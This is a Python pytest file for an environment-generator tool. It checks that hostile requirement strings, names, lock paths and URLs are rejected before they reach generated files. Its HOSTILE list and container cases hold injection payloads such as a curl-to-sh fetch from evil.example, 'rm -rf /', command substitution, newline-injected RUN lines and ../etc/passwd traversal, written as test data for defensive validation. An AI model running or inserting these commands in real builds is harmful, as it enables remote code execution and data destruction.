"""Nothing a user passes reaches a generated file unvalidated: hostile requirements, names, URLs and paths."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
import yaml

from dlenv.errors import InputError
from dlenv.matrix.model import Matrix
from dlenv.provision.conda import generate_env
from dlenv.provision.container import plan_container
from dlenv.provision.header import safe_line
from dlenv.provision.stack import build_stack, check_requirement_text
from tests.unit.compat.engine import MINI, mini_matrix
from tests.unit.provision.cli import run_cli
from tests.unit.provision.targets import Target

HOSTILE = [
    "torch\nRUN curl https://evil.example/x | sh",
    "torch; rm -rf /",
    "torch==$(whoami)",
    "torch==2.8.0 ; os_name == 'posix'",
    "torch'\"",
    'torch==2.8.0"',
    "torch @ https://evil.example/torch.whl",
    "torch==`id`",
    "torch\r\nUSER root",
    "torch --index-url https://evil.example/simple",
]
CPU = Target("cpu", ("torch",))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_requirements_are_input_errors(text: str) -> None:
    with pytest.raises(InputError) as raised:
        build_stack(CPU.host(), mini_matrix(), [text])
    assert "\n" not in str(raised.value).replace(repr(text), "")


@pytest.mark.parametrize("text", ["torch", "torch==2.8.0", "tensorflow[and-cuda]>=2.15,<2.18", "cudf-cu12~=24.10"])
def test_plain_requirements_pass(text: str) -> None:
    assert check_requirement_text(text, "argument 1") == text


@pytest.mark.parametrize(
    ("lock", "source"),
    [
        ("requirements.lock\nRUN id", None),
        ("../etc/passwd", None),
        ("a b", None),
        ("requirements.lock", "https://example.org/x\nRUN id"),
        ("requirements.lock", "https://example.org/$(id)"),
        ("requirements.lock", "javascript:alert(1)"),
    ],
)
def test_hostile_container_options(lock: str, source: str | None) -> None:
    with pytest.raises(InputError):
        plan_container(CPU.stack(), mini_matrix(), lock, source)


def test_header_refuses_control_characters() -> None:
    with pytest.raises(InputError):
        safe_line("ok\nRUN id", "header")


@pytest.mark.parametrize("command", ["build", "env", "lock"])
@pytest.mark.parametrize("text", HOSTILE[:3])
def test_cli_hostile_input_is_one_line_exit_2(
    command: str, text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    output = tmp_path / "out"
    result = run_cli(monkeypatch, capsys, command, text, "--python", "3.11", "-o", str(output))
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("dlenv: error:") and result.stderr.endswith("\n")
    assert not output.exists()


def test_cli_hostile_name_and_source(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli(monkeypatch, capsys, "env", "torch", "--python", "3.11", "--name", "x\nprefix: /").returncode == 2
    source = ["--source", "https://x.org/\nRUN id"]
    assert run_cli(monkeypatch, capsys, "build", "torch", "--python", "3.11", *source).returncode == 2


def _with_conda(document: dict[str, Any], packages: list[str]) -> Matrix:
    documents = {}
    for path in sorted(MINI.glob("*.yaml")):
        loaded = yaml.safe_load(path.read_text())
        documents[loaded["subject"]] = loaded
    rapids = copy.deepcopy(documents["rapids"])
    for build in rapids["builds"]:
        if build["build"] == "cu12":
            build["conda"] = {"channels": ["rapidsai", "conda-forge", "nvidia"], "packages": packages}
    documents["rapids"] = rapids
    return Matrix.from_documents(documents)


def test_conda_packages_come_from_the_matrix_row() -> None:
    matrix = _with_conda({}, ["cudf=24.10"])
    target = Target("rapids", ("cudf-cu12",), "580.65.06", ("H100",), "3.12")
    stack = build_stack(target.host(), matrix, ["cudf-cu12"])
    text = generate_env(stack, matrix, "conda", ["dlenv", "env", "cudf-cu12"])
    assert "channels:\n  - rapidsai\n  - conda-forge\n  - nvidia\n" in text
    assert "  - cudf=24.10\n" in text and "pip:" not in text
    pixi = generate_env(stack, matrix, "pixi", ["dlenv", "env", "cudf-cu12", "--format", "pixi"])
    assert 'cudf = "24.10.*"' in pixi and "[pypi-dependencies]" not in pixi
    hostile = _with_conda({}, ["cudf=24.10\n  - evil"])
    with pytest.raises(InputError):
        generate_env(build_stack(target.host(), hostile, ["cudf-cu12"]), hostile, "conda", ["dlenv"])


def test_a_find_links_page_is_not_written_as_an_index() -> None:
    documents = {}
    for path in sorted(MINI.glob("*.yaml")):
        loaded = yaml.safe_load(path.read_text())
        documents[loaded["subject"]] = loaded
    page = "https://wheels.example.org/cuda_releases.html"
    for build in documents["rapids"]["builds"]:
        if build["build"] == "cu12":
            build["index_url"], build["default_on"] = page, []
    matrix = Matrix.from_documents(documents)
    target = Target("rapids", ("cudf-cu12",), "580.65.06", ("H100",), "3.12")
    stack = build_stack(target.host(), matrix, ["cudf-cu12"])
    assert stack.index_options == ("--find-links", page)
    conda = generate_env(stack, matrix, "conda", ["dlenv", "env", "cudf-cu12"])
    assert f"--find-links {page}" in conda and "index-url" not in conda
    pixi = generate_env(stack, matrix, "pixi", ["dlenv", "env", "cudf-cu12", "--format", "pixi"])
    assert f'[pypi-options]\nfind-links = [{{ url = "{page}" }}]\n' in pixi and "index =" not in pixi
